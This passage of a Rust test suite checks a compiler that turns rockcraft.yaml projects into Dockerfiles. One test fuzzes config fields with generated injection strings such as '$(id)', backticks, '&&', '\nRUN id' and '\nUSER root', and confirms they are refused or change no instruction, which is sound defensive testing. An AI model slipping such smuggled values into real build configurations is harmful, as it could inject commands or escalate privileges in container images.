    let d = compile(&p.dir, &["--emit", "dockerfile"]).dockerfile();
    assert!(d.contains("ARG GO_IMAGE=golang:1\n"), "{d}");
    assert!(d.contains("COPY --from=go-image /usr/local/ /usr/local/\n"));
    let build = run_file(&d, "go-framework/install-app/run/build.sh");
    assert!(
        build.contains(
            "go mod download all\ngo install -p \"${CRAFT_PARALLEL_BUILD_COUNT}\"  ./...\n"
        ),
        "{build}"
    );
    let part = run_file(&d, "go-framework/install-app/run/part.sh");
    assert!(
        part.contains("ORGANIZE=('bin/web' 'usr/local/bin/web')"),
        "{part}"
    );
    assert_eq!(cmd(&d), ["web"]);
    assert!(d.contains("\nWORKDIR /app\nEXPOSE 8080\n"), "{d}");
}

// --- the examples ------------------------------------------------------------------------

#[test]
fn every_example_compiles_to_a_well_formed_dockerfile() {
    let mut n = 0;
    for entry in std::fs::read_dir(root().join("examples")).expect("examples") {
        let dir = entry.expect("entry").path();
        if !dir.join("rockcraft.yaml").is_file() {
            continue;
        }
        let out = common::tmp().join(format!(
            "paasc-docker-{}-example-{}",
            std::process::id(),
            dir.file_name().and_then(|n| n.to_str()).unwrap_or("x")
        ));
        let outcome = paasc::run(
            vec![
                "paasc".into(),
                "compile".into(),
                dir.display().to_string(),
                "-o".into(),
                out.display().to_string(),
                "--emit".into(),
                "dockerfile".into(),
            ],
            TERM,
        );
        assert_eq!(outcome.code, 0, "{}: {}", dir.display(), outcome.stdout);
        let d = std::fs::read_to_string(out.join("docker/Dockerfile")).expect("Dockerfile");
        let kws = keywords(&d);
        assert_eq!(kws.first().map(String::as_str), Some("ARG"));
        assert_eq!(kws.last().map(String::as_str), Some("CMD"));
        assert!(!cmd(&d).is_empty());
        let _ = std::fs::remove_dir_all(&out);
        n += 1;
    }
    assert!(n >= 1);
}

/// A small deterministic generator of hostile strings.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }
    fn hostile(&mut self) -> String {
        const PIECES: &[&str] = &[
            "a",
            "lib",
            "-",
            ".",
            "/",
            " ",
            "\n",
            "\r",
            "\\",
            "\"",
            "'",
            "$",
            "$(id)",
            "`",
            "*",
            "[",
            "]",
            "#",
            "&&",
            ";",
            "|",
            "{",
            "}",
            "\t",
            "\u{2028}",
            "é",
            "\nRUN id",
            "\\\n",
            "\nUSER root\n",
            ":",
            "=",
            "@",
            "%",
            "~",
            "..",
            "\u{1b}[2J",
            "\u{85}",
            "0",
        ];
        let len = 1 + self.next() % 6;
        (0..len)
            .map(|_| PIECES[(self.next() % PIECES.len() as u64) as usize])
            .collect()
    }
}

#[test]
fn hostile_values_either_give_a_diagnostic_or_change_no_instruction() {
    let rock = |pkg: &str, prime: &str, env: &str, pip: &str, worker: &str, url: &str| {
        let q = |s: &str| serde_json::to_string(s).expect("json");
        format!(
            "environment:\n  GREETING: {}\n\
             parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: [{}]\n\
             \x20 flask-framework/install-app:\n    prime: [{}]\n\
             \x20 flask-framework/dependencies:\n    python-packages: [{}]\n\
             services:\n  celery-worker:\n    override: replace\n    command: {}\n\
             checks:\n  up:\n    override: replace\n    http:\n      url: {}\n",
            q(env),
            q(pkg),
            q(prime),
            q(pip),
            q(worker),
            q(url)
        )
    };
    let base = project(
        "hostile-baseline",
        &rock(
            "libpq5",
            "flask/app/app.py",
            "hi",
            "requests",
            "celery worker",
            "http://localhost:8000/",
        ),
        &[],
    );
    let baseline = keywords(&ok(&base).dockerfile());
    let mut gen = Lcg(0x5eed);
    let (mut refused, mut written) = (0, 0);
    for i in 0..120 {
        let h = gen.hostile();
        let field = i % 6;
        let pick = |n: usize, hostile: &str, benign: &str| {
            if field == n {
                hostile.to_string()
            } else {
                benign.to_string()
            }
        };
        let text = rock(
            &pick(0, &h, "libpq5"),
            &pick(1, &format!("flask/app/{h}"), "flask/app/app.py"),
            &pick(2, &h, "hi"),
            &pick(3, &format!("requests{h}"), "requests"),
            &pick(4, &format!("celery {h}"), "celery worker"),
            &pick(
                5,
                &format!("http://localhost:8000/{h}"),
                "http://localhost:8000/",
            ),
        );
        let p = project(&format!("hostile-{i}"), &text, &[]);
        let c = compile(&p.dir, &["--emit", "dockerfile"]);
        if c.outcome.code == 0 {
            written += 1;
            let d = c.dockerfile();
            assert_eq!(keywords(&d), baseline, "field {field}, value {h:?}:\n{d}");
        } else {
            refused += 1;
            assert!(
                !c.out.join("docker/Dockerfile").exists(),
                "a refused compile writes nothing"
            );
        }
    }
    // The generator exercises both outcomes.
    assert!(
        refused > 10 && written > 10,
        "refused {refused}, written {written}"
    );
}

#[test]
fn package_manager_credentials_are_secret_mounts_never_args() {
    let p = project(
        "secrets",
        "parts:\n  ui:\n    plugin: nil\n    build-snaps: [node/20/stable]\n    override-build: npm ci\n",
        &[],
    );
    let d = ok(&p).dockerfile();
    let runs: Vec<String> = instructions(&d)
        .into_iter()
        .filter(|l| l.contains("/craft/craft.sh run"))
        .collect();
    let deps = runs
        .iter()
        .find(|l| l.contains("dependencies/run"))
        .expect("python part");
    assert!(deps.starts_with("RUN --mount=type=secret,id=pip.conf,target=/etc/pip.conf "));
    let ui = runs
        .iter()
        .find(|l| l.contains("/ui/run"))
        .expect("ui part");
    assert!(
        ui.contains("--mount=type=secret,id=npmrc,target=/root/.npmrc"),
        "{ui}"
    );
    assert!(
        ui.contains("--mount=type=cache,target=/root/.npm,sharing=locked"),
        "{ui}"
    );
    for l in instructions(&d) {
        assert!(
            !(l.starts_with("ARG ") || l.starts_with("ENV "))
                || !l.to_lowercase().contains("token"),
            "{l}"
        );
    }
}

#[test]
fn django_example_primes_its_dump_part_and_app() {
    let dir = common::tmp().join(format!("paasc-docker-{}-django", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .arg(root().join("examples/django-assets"))
        .arg(&dir)
        .status()
        .expect("cp");
    assert!(copied.success());
    let p = Project { dir: dir.clone() };
    let c = compile(&p.dir, &["--emit", "dockerfile"]);
    assert_eq!(c.outcome.code, 0, "{}", c.outcome.stdout);
    let d = c.dockerfile();
    let build = run_file(&d, "django-framework/dependencies/run/override-build.sh");
    assert_eq!(
        build,
        "craftctl default\npython3 -m compileall -q \"$CRAFT_PART_INSTALL/lib\"\n"
    );
    let prime = run_lifecycle(&c, &dir);
    let files = tree(&prime.join("django/app"));
    for f in [
        "static/css/site.css",
        "manage.py",
        "django_assets/settings.py",
    ] {
        assert!(files.iter().any(|x| x == f), "{f} in {files:?}");
    }
}

#[test]
fn package_repositories_are_apt_sources_with_keys_from_the_key_server() {
    let p = project(
        "repos",
        "package-repositories:
  - type: apt
    url: https://repo.example.com/ubuntu
    key-id: 0123456789abcdef0123456789abcdef01234567
    suites: [noble]
    components: [main, extra]
parts:
  runtime-debs:
    plugin: nil
    stage-packages: [example-tool]
",
        &[],
    );
    let d = ok(&p).dockerfile();
    assert!(d.contains("FROM ${BASE_IMAGE} AS apt-repositories\n"));
    assert!(d.contains("--keyserver 'hkp://keyserver.ubuntu.com:80' --recv-keys 0123456789ABCDEF0123456789ABCDEF01234567"));
    assert!(d.contains("'Types: deb' 'URIs: https://repo.example.com/ubuntu' 'Suites: noble' 'Components: main extra' 'Signed-By: /etc/apt/keyrings/craft-01234567.gpg'"), "{d}");
    // Every apt run (build stages and the image) gets them first; the image drops them.
    assert_eq!(
        d.matches(
            "COPY --from=apt-repositories /etc/apt/sources.list.d/ /etc/apt/sources.list.d/\n"
        )
        .count(),
        2,
        "{d}"
    );
    assert!(
        d.contains("rm -f /etc/apt/sources.list.d/craft-*.sources /etc/apt/keyrings/craft-*.gpg")
    );
    // A PPA is not translated: one D002 naming it.
    let p = project(
        "ppa",
        "package-repositories:\n  - type: apt\n    ppa: deadsnakes/ppa\n",
        &[],
    );
    let c = failed(&p);
    assert_eq!(c.codes(), ["D002"], "{}", c.messages());
    assert!(c.messages().contains("`ppa`"), "{}", c.messages());
}
